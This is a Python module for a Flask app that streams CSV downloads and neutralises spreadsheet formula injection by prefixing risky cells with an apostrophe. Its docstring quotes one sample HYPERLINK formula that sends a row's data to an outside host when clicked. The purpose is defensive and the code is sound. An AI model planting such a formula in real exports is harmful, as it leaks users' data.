"""Streaming CSV downloads: rows are written as they are read, so any size fits in flat memory.

Every download goes through here, so this is the one place where cells are made safe for
spreadsheets: a text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
would be read as a formula (``=HYPERLINK("https://x/?"&A2,"y")`` in a client's name sends the
row away when clicked). Such a cell gets a leading apostrophe, which spreadsheets read as "this
is text"; the client import takes it off again, so an export imports back unchanged.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from contextlib import nullcontext
from urllib.parse import quote

from flask import Response, stream_with_context

from tenants.context import current_tenant_id, tenant_context

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISER = "'"


def neutralise(value):
    """A cell value a spreadsheet shows as text: formula-like text gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return NEUTRALISER + value
    return value


def unneutralise(text: str) -> str:
    """The text that ``neutralise`` protected (an uploaded file of our own export)."""
    if text.startswith(NEUTRALISER) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def _lines(rows: Iterable[list]) -> Iterable[str]:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    yield "\ufeff"  # a BOM, so spreadsheet programs read UTF-8
    for row in rows:
        writer.writerow([neutralise(value) for value in row])
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate(0)


def csv_response(rows: Iterable[list], filename: str) -> Response:
    """Stream ``rows`` (a lazy generator) as a CSV download.

    The response is written after the view has returned and its request teardown has run, so
    the generator re-enters the tenant context of the request it belongs to.
    """
    tenant_id = current_tenant_id()

    def generate():
        scope = tenant_context(tenant_id) if tenant_id is not None else nullcontext()
        with scope:
            yield from _lines(rows)

    response = Response(stream_with_context(generate()), mimetype="text/csv")
    response.headers["Content-Disposition"] = f"attachment; filename*=UTF-8''{quote(filename)}"
    response.headers["X-Content-Type-Options"] = "nosniff"
    return response
